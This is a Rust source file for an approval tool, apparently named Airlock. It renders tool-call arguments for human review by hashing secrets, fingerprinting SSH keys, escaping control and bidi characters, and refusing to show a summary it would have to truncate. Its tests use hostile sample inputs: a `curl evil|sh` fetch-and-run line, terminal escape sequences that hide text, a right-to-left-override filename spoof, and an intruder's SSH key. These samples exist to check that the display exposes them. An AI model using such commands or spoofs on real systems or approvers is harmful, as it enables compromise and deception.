//! What a person asked to approve a call sees: the call's arguments, in
//! sorted key order, every value that decides shown so that it can be
//! judged and compared, and every control, bidi and invisible formatting
//! character shown as `\u{…}` text.
//!
//! - **Public keys** (SSH `authorized_keys` text, at any key name; a VM's
//!   URL-encoded `sshkeys` too) are shown as type, SHA256 fingerprint and
//!   comment: `ssh-keys[ssh-ed25519 SHA256:… "alice@laptop"]`. A request
//!   that installs an intruder's key must not read like a good one.
//! - **Secrets** (values of fields named like passwords, tokens, keys; a
//!   secret-named object or list whole) are shown as set or unset, with
//!   their length and a short keyed hash, so two requests can be compared
//!   without the secret being shown: `password=set(12 chars,
//!   hmac:9f86d081)`. The hash is keyed by a secret of the deployment's
//!   state ([`SummaryKey`], kept in the approvals store): whoever sees
//!   a summary without that store (a chat transcript, a screenshot, a
//!   log) cannot test guesses of a PIN or a dictionary password against
//!   it. Whoever can read the store can; it holds the arguments anyway.
//! - **Everything else in full.** A string longer than [`LONG_CHARS`] is
//!   shown in full in [`Rendered::full`] (`airlock approvals show ID`)
//!   and summarised in [`Rendered::short`] (lists, prompts, errors) by its
//!   start, its length and a short hash.
//!
//! Nothing is cut silently: a short form past [`MAX_SUMMARY_CHARS`] or a
//! full one past [`MAX_DETAIL_CHARS`] is not made at all, and the call is
//! refused rather than put to a person who could only see part of it.
//!
//! The form: `node=pve1, vmid=101, config={password=set(…), tags=["a", "b"]}`.
//! At the top level a string made only of letters, digits and `_.:/@+-`
//! that does not read as a number, boolean or null is shown bare; every
//! other string is quoted, so `vmid=101` is a number and `vmid="101"` a
//! string, and no value can pose as another `key=value` pair.

use hmac::{Hmac, Mac};
use serde_json::{Map, Value};
use sha2::Sha256;

use crate::ssh_keys;
use airlock_catalog::{digest::sha256_hex, redact::is_secret, visible::must_escape};

/// The key of the short hashes secrets are shown by: 32 random bytes kept
/// with the approvals (one per deployment, so every replica shows a
/// secret alike), never shown.
#[derive(Clone)]
pub struct SummaryKey([u8; 32]);

impl SummaryKey {
    pub fn new(bytes: [u8; 32]) -> Self {
        Self(bytes)
    }

    fn mac(&self) -> Hmac<Sha256> {
        Hmac::<Sha256>::new_from_slice(&self.0).expect("HMAC takes any key length")
    }

    /// The first 8 hex digits of HMAC-SHA256(key, `value`).
    fn tag(&self, value: &str) -> String {
        let mut mac = self.mac();
        mac.update(value.as_bytes());
        short_tag(mac)
    }

    /// The tag an approver is shown for `value` where a secret stands: a
    /// string's of its text, anything else's of its canonical JSON
    /// (tagged apart). The audit records a runbook's bounded values by
    /// it, so a line and an approver's view of one value agree.
    pub fn value_tag(&self, value: &Value) -> String {
        match value {
            Value::String(s) => self.tag(s),
            other => json_tag(self.mac(), other).1,
        }
    }
}

/// The keyed tag of `v`'s canonical JSON, streamed (nothing the size of
/// the value is built), and its length in characters.
fn json_tag(mut mac: Hmac<Sha256>, v: &Value) -> (usize, String) {
    // Tagged: an object never shares a hash with a string that spells
    // its JSON.
    mac.update(b"json\0");
    let mut chars = 0usize;
    airlock_catalog::digest::write(v, &mut |bytes| {
        mac.update(bytes);
        // UTF-8: every byte but a continuation byte starts a char.
        chars += bytes.iter().filter(|b| (**b & 0xC0) != 0x80).count();
    });
    (chars, short_tag(mac))
}

/// What an approver is shown of a MAC: its first 8 hex digits.
fn short_tag(mac: Hmac<Sha256>) -> String {
    hex::encode(&mac.finalize().into_bytes()[..4])
}

impl std::fmt::Debug for SummaryKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("SummaryKey(…)")
    }
}

/// The longest short form, in characters (lists, prompts, errors).
pub const MAX_SUMMARY_CHARS: usize = 2_000;

/// The longest full form, in characters (`approvals show`): cloud-init
/// user data and scripts fit.
pub const MAX_DETAIL_CHARS: usize = 65_536;

/// A string longer than this many characters is summarised in the short
/// form.
pub const LONG_CHARS: usize = 200;

/// How much of a long string the short form shows.
const HEAD_CHARS: usize = 80;

/// The arguments take too many characters to show.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("the arguments take more than {limit} characters to show {what} to the person approving the call, and Airlock never asks for approval of a summary it had to cut; pass smaller arguments (fewer keys, shorter values) or split the call")]
pub struct TooLong {
    pub limit: usize,
    pub what: &'static str,
}

/// The approver's rendering of a call's arguments.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Rendered {
    /// Long values summarised: what lists, prompts and errors show.
    pub short: String,
    /// Every value in full, when the short form summarised one (`None`
    /// when the short form is already everything).
    pub full: Option<String>,
}

/// The approver's rendering of `args`, secrets hashed with `key`, or
/// [`TooLong`].
pub fn summarize(args: &Value, key: &SummaryKey) -> Result<Rendered, TooLong> {
    summarize_within(args, key, MAX_SUMMARY_CHARS, MAX_DETAIL_CHARS)
}

/// [`summarize`] with other bounds (tests).
pub fn summarize_within(
    args: &Value,
    key: &SummaryKey,
    short_limit: usize,
    full_limit: usize,
) -> Result<Rendered, TooLong> {
    let mut r = Renderer {
        short: Out::new(short_limit, "in a list"),
        full: Out::new(full_limit, "in full"),
        summarised: false,
        key,
    };
    match args {
        Value::Object(map) => r.entries(map, true)?,
        other => r.value(other, true, false)?,
    }
    Ok(Rendered {
        full: r.summarised.then_some(r.full.text),
        short: r.short.text,
    })
}

/// One form being written, with its bound.
struct Out {
    text: String,
    chars: usize,
    limit: usize,
    what: &'static str,
}

impl Out {
    fn new(limit: usize, what: &'static str) -> Self {
        Self {
            text: String::new(),
            chars: 0,
            limit,
            what,
        }
    }

    fn push(&mut self, s: &str) -> Result<(), TooLong> {
        self.chars += s.chars().count();
        if self.chars > self.limit {
            return Err(TooLong {
                limit: self.limit,
                what: self.what,
            });
        }
        self.text.push_str(s);
        Ok(())
    }

    /// Whether `at_least` more characters could still fit.
    fn room_for(&self, at_least: usize) -> Result<(), TooLong> {
        if at_least > self.limit.saturating_sub(self.chars) + 2 {
            return Err(TooLong {
                limit: self.limit,
                what: self.what,
            });
        }
        Ok(())
    }
}

struct Renderer<'k> {
    short: Out,
    full: Out,
    /// The short form summarised a long value.
    summarised: bool,
    key: &'k SummaryKey,
}

impl Renderer<'_> {
    /// The same text into both forms.
    fn push(&mut self, s: &str) -> Result<(), TooLong> {
        self.short.push(s)?;
        self.full.push(s)
    }

    /// `k=v, k=v` in sorted key order. Every entry takes at least five
    /// characters with its separator, so an object too large to show is
    /// known before its keys are sorted.
    fn entries(&mut self, map: &Map<String, Value>, top: bool) -> Result<(), TooLong> {
        self.short.room_for(map.len().saturating_mul(5))?;
        let mut sorted: Vec<(&String, &Value)> = map.iter().collect();
        sorted.sort_unstable_by(|a, b| a.0.cmp(b.0));
        for (i, (k, v)) in sorted.into_iter().enumerate() {
            if i > 0 {
                self.push(", ")?;
            }
            self.key(k)?;
            self.push("=")?;
            self.value(v, top, is_secret(k))?;
        }
        Ok(())
    }

    fn key(&mut self, k: &str) -> Result<(), TooLong> {
        if !k.is_empty() && k.chars().all(plain_char) {
            self.push(k)
        } else {
            let q = quoted(k, self.full.limit)?;
            self.push(&q)
        }
    }

    /// A value; `secret` when its field's name marks it secret (the
    /// elements of a secret-named list are secret too).
    fn value(&mut self, v: &Value, top: bool, secret: bool) -> Result<(), TooLong> {
        match v {
            Value::Null => self.push("null"),
            Value::String(s) => self.string(s, top, secret),
            Value::Bool(_) | Value::Number(_) if secret => self.secret(&v.to_string()),
            Value::Bool(_) | Value::Number(_) => self.push(&v.to_string()),
            Value::Array(items) => {
                self.short.room_for(items.len().saturating_mul(3))?;
                self.push("[")?;
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        self.push(", ")?;
                    }
                    self.value(item, false, secret)?;
                }
                self.push("]")
            }
            // A secret-named object is secret whole, whatever its members
            // are called.
            Value::Object(map) if secret && map.is_empty() => self.push("set(empty object)"),
            Value::Object(_) if secret => self.secret_json(v),
            Value::Object(map) => {
                self.push("{")?;
                self.entries(map, false)?;
                self.push("}")
            }
        }
    }

    fn string(&mut self, s: &str, top: bool, secret: bool) -> Result<(), TooLong> {
        // Bounded before any copy: a string a person could never read in
        // full is refused whatever it holds.
        if s.len() > self.full.limit.saturating_mul(4) {
            return Err(TooLong {
                limit: self.full.limit,
                what: self.full.what,
            });
        }
        if let Some(keys) = ssh_keys::parse(s) {
            return self.keys(&keys, s);
        }
        if secret {
            return self.secret(s);
        }
        let shown = if top && bare(s) {
            s.to_string()
        } else {
            quoted(s, self.full.limit)?
        };
        let chars = s.chars().count();
        if chars <= LONG_CHARS {
            return self.push(&shown);
        }
        self.summarised = true;
        // The head is quoted whole and closed: nothing in it can read as
        // anything outside it.
        let head: String = s.chars().take(HEAD_CHARS).collect();
        let head = quoted(&head, HEAD_CHARS)?;
        self.short.push(&format!(
            "{head}…({chars} chars, sha256:{}; in full: approvals show)",
            &sha256_hex(s.as_bytes())[..16]
        ))?;
        self.full.push(&shown)
    }

    /// `set(12 chars, hmac:…)`: enough to tell two values apart and to
    /// see one is set, nothing of the value.
    fn secret(&mut self, s: &str) -> Result<(), TooLong> {
        let chars = s.chars().count();
        let shown = if chars == 0 {
            "set(empty)".to_string()
        } else {
            format!(
                "set({chars} char{}, hmac:{})",
                if chars == 1 { "" } else { "s" },
                self.key.tag(s)
            )
        };
        self.push(&shown)
    }

    /// A secret-named object, by the length and keyed hash of its
    /// canonical JSON, streamed: nothing the size of the object is built.
    fn secret_json(&mut self, v: &Value) -> Result<(), TooLong> {
        let (chars, tag) = json_tag(self.key.mac(), v);
        self.push(&format!("set({chars} chars of JSON, hmac:{tag})"))
    }

    /// Keys by type, fingerprint and comment, and every `#` line of the
    /// text quoted in place; the full form adds the text as written.
    fn keys(&mut self, lines: &[ssh_keys::Line], raw: &str) -> Result<(), TooLong> {
        self.push("ssh-keys[")?;
        for (i, line) in lines.iter().enumerate() {
            if i > 0 {
                self.push(", ")?;
            }
            match line {
                ssh_keys::Line::Key(k) => {
                    if !k.options.is_empty() {
                        let options = quoted(&k.options, self.full.limit)?;
                        self.push(&format!("options={options} "))?;
                    }
                    let comment = quoted(&k.comment, self.full.limit)?;
                    self.push(&format!("{} {} {comment}", k.kind, k.fingerprint))?;
                }
                ssh_keys::Line::Comment(c) => {
                    let c = quoted(c, self.full.limit)?;
                    self.push(&format!("comment {c}"))?;
                }
            }
        }
        self.push("]")?;
        self.summarised = true;
        let raw = quoted(raw, self.full.limit)?;
        self.full.push(&format!(" as written: {raw}"))
    }
}

/// `"…"` with `"` and `\` escaped and every character a terminal would
/// act on written as `\u{…}`; refused before copying a string longer than
/// any form could hold.
fn quoted(s: &str, limit: usize) -> Result<String, TooLong> {
    if s.len() > limit.saturating_mul(4) {
        return Err(TooLong {
            limit,
            what: "in full",
        });
    }
    let mut q = String::with_capacity(s.len() + 2);
    q.push('"');
    for c in s.chars() {
        match c {
            '"' => q.push_str("\\\""),
            '\\' => q.push_str("\\\\"),
            c if must_escape(c) => q.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => q.push(c),
        }
    }
    q.push('"');
    Ok(q)
}

fn plain_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || "_.:/@+-".contains(c)
}

/// A string shown without quotes: plain characters only, and not one that
/// would read as a number, a boolean or null.
fn bare(s: &str) -> bool {
    !s.is_empty() && s.chars().all(plain_char) && serde_json::from_str::<Value>(s).is_err()
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::Engine;
    use serde_json::json;

    fn key() -> SummaryKey {
        SummaryKey::new([7; 32])
    }

    fn short(args: &Value) -> String {
        summarize(args, &key()).unwrap().short
    }

    #[test]
    fn plain_arguments_read_as_before() {
        assert_eq!(
            short(&json!({"vmid": 101, "node": "pve1"})),
            "node=pve1, vmid=101"
        );
        assert_eq!(
            short(&json!({"vmid": "101", "force": "true", "note": "a, b=c"})),
            r#"force="true", note="a, b=c", vmid="101""#
        );
        assert_eq!(summarize(&json!({"vmid": 101}), &key()).unwrap().full, None);
    }

    #[test]
    fn escapes_shows_secrets_as_set_and_sorts() {
        let r = summarize(
            &json!({
                "description": "nice\u{1b}[2K\u{1b}[1A\rharmless",
                "name": "web\u{202e}gpj.exe",
                "config": {"password": "hunter2", "user": "root", "inner": [{"api_key": "k"}]},
                "password": "x",
                "token": null,
            }),
            &key(),
        )
        .unwrap();
        let h = |s: &str| key().tag(s);
        assert_eq!(
            r.short,
            format!(
                r#"config={{inner=[{{api_key=set(1 char, hmac:{})}}], password=set(7 chars, hmac:{}), user="root"}}, description="nice\u{{1b}}[2K\u{{1b}}[1A\u{{d}}harmless", name="web\u{{202e}}gpj.exe", password=set(1 char, hmac:{}), token=null"#,
                h("k"),
                h("hunter2"),
                h("x")
            )
        );
        assert!(!r.short.contains("hunter2"));
        assert!(r.short.chars().all(|c| !must_escape(c)));
        // Two different secrets read differently; the same one the same.
        assert_ne!(
            short(&json!({"password": "a"})),
            short(&json!({"password": "b"}))
        );
        assert_eq!(
            short(&json!({"api_keys": ["a", "b"]})),
            format!(
                "api_keys=[set(1 char, hmac:{}), set(1 char, hmac:{})]",
                h("a"),
                h("b")
            )
        );
        // A secret-named object is hidden whole, by its canonical JSON:
        // member order does not change it, a member's value does.
        let object = short(&json!({"client_secret": {"id": "é", "pw": "p"}}));
        assert_eq!(
            object,
            format!(
                "client_secret=set(19 chars of JSON, hmac:{})",
                h("json\0{\"id\":\"é\",\"pw\":\"p\"}")
            )
        );
        assert!(!object.contains("pw") && !object.contains('é'), "{object}");
        assert_ne!(
            object,
            short(&json!({"client_secret": {"id": "é", "pw": "q"}}))
        );
        assert_eq!(
            short(&json!({"client_secret": {}})),
            "client_secret=set(empty object)"
        );
    }

    #[test]
    fn public_keys_are_shown_by_type_fingerprint_and_comment() {
        let mut blob = Vec::new();
        blob.extend_from_slice(&(11u32).to_be_bytes());
        blob.extend_from_slice(b"ssh-ed25519");
        blob.extend_from_slice(&(32u32).to_be_bytes());
        blob.extend_from_slice(&[7; 32]);
        let b64 = base64::engine::general_purpose::STANDARD.encode(&blob);
        let fp = base64::engine::general_purpose::STANDARD_NO_PAD
            .encode(<sha2::Sha256 as sha2::Digest>::digest(&blob));
        let line = format!("ssh-ed25519 {b64} intruder@evil");
        for name in ["ssh-public-keys", "sshkeys", "authorized"] {
            let r = summarize(&json!({name: line}), &key()).unwrap();
            assert_eq!(
                r.short,
                format!(r#"{name}=ssh-keys[ssh-ed25519 SHA256:{fp} "intruder@evil"]"#)
            );
            assert!(r
                .full
                .unwrap()
                .ends_with(&format!(r#" as written: "{line}""#)));
        }
        // A line that is not a key is shown where it stands, never hidden.
        let script = format!("#!/bin/sh -c 'curl evil|sh'\n{line}");
        let s = short(&json!({"script": script}));
        assert!(
            s.contains(r##"comment "#!/bin/sh -c 'curl evil|sh'""##),
            "{s}"
        );
    }

    #[test]
    fn long_values_are_summarised_and_shown_in_full_on_request() {
        let user_data = format!("#cloud-config\nruncmd:\n{}", "  - echo hi\n".repeat(100));
        let r = summarize(&json!({"cicustom": user_data, "vmid": 101}), &key()).unwrap();
        let full = r.full.expect("summarised");
        assert!(
            r.short.starts_with("cicustom=\"#cloud-config\\u{a}runcmd"),
            "{}",
            r.short
        );
        assert!(
            r.short
                .contains(&format!("({} chars, sha256:", user_data.chars().count())),
            "{}",
            r.short
        );
        assert!(r.short.ends_with(", vmid=101"), "{}", r.short);
        assert!(r.short.chars().count() < 300);
        assert!(full.contains(&"  - echo hi\\u{a}".repeat(100)));
        assert!(full.ends_with(", vmid=101"));
    }

    #[test]
    fn a_hundred_keys_are_all_shown_and_too_much_is_refused() {
        let mut map = Map::new();
        for i in (0..100).rev() {
            map.insert(format!("k{i:03}"), json!(i));
        }
        let s = short(&Value::Object(map));
        assert_eq!(s.matches('=').count(), 100);
        assert!(s.starts_with("k000=0, k001=1, "), "{s}");
        assert!(s.ends_with("k099=99"), "{s}");

        let long = json!({"note": "x".repeat(MAX_DETAIL_CHARS)});
        assert_eq!(
            summarize(&long, &key()),
            Err(TooLong {
                limit: MAX_DETAIL_CHARS,
                what: "in full"
            })
        );
        let mut many = Map::new();
        for i in 0..100_000 {
            many.insert(format!("k{i}"), json!(1));
        }
        let e = summarize(&Value::Object(many), &key()).unwrap_err();
        assert!(e.to_string().contains("2000 characters"), "{e}");
        assert!(summarize(&json!({"a": vec![0; 1000]}), &key()).is_err());
        // A gigabyte-sized string is refused before it is copied.
        assert!(summarize(&json!({"a": "x".repeat(MAX_DETAIL_CHARS * 4 + 1)}), &key()).is_err());
    }
}
